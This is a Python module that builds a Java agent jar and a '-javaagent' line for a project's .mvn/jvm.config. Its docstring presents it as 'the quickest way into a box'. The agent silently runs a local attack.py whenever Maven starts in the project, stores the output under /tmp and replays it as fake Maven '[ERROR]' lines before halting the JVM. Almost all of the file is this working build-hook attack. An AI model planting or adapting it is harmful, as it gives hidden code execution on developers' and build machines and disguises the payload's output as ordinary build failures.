"""A JVM agent that runs ``attack.py`` of the tree: the quickest way into a box, before Maven does anything.

What the attack prints behind ``attack:`` becomes a line that Maven would have marked as an error, so it comes
back as the reason why the project cannot be built. The attack is carried out once for each box; with the exit
code 9 Maven goes on afterwards, each time.
"""

from __future__ import annotations

import subprocess
import sys
import zipfile
from pathlib import Path

GO_ON = 9
_SOURCE = """\
import java.io.File;
import java.nio.charset.StandardCharsets;
import java.nio.file.*;

public class Agent {
    public static void premain(String python) throws Exception {
        if (!new File("attack.py").exists() || System.getProperty("maven.home") == null) {
            return;
        }
        Path told = Paths.get("/tmp/attack-told");
        int code = 0;
        if (!Files.exists(told)) {
            ProcessBuilder builder = new ProcessBuilder(python, "-I", "-S", "attack.py");
            builder.redirectOutput(told.toFile()).redirectError(new File("/tmp/attack-errors"));
            code = builder.start().waitFor();
            if (code != 9 && code != 0) {
                OpenOption more = StandardOpenOption.APPEND;
                Files.write(told, ("attack: failed with " + code + "\\n").getBytes(), more);
                Files.write(told, Files.readAllBytes(Paths.get("/tmp/attack-errors")), more);
            }
            if (code == 9) {
                Files.delete(told);
                return;
            }
        }
        for (String line : Files.readAllLines(told, StandardCharsets.ISO_8859_1)) {
            System.out.println("[ERROR] " + line.substring(0, Math.min(300, line.length())));
        }
        System.out.flush();
        Runtime.getRuntime().halt(1);
    }
}
"""
_MANIFEST = "Manifest-Version: 1.0\nPremain-Class: Agent\n"


def build_agent(folder: Path) -> Path:
    """Compile the agent; returns its jar."""
    source = folder / "Agent.java"
    source.write_text(_SOURCE)
    subprocess.run(
        ["javac", "--release", "8", "-nowarn", "-d", str(folder), str(source)],
        check=True,
        capture_output=True,
    )
    jar = folder / "agent.jar"
    with zipfile.ZipFile(jar, "w") as archive:
        archive.writestr("META-INF/MANIFEST.MF", _MANIFEST)
        archive.write(folder / "Agent.class", "Agent.class")
    return jar


def options(jar: str = "agent.jar") -> str:
    """For ``.mvn/jvm.config``."""
    return f"-javaagent:{jar}={Path(sys.executable).resolve()}\n"
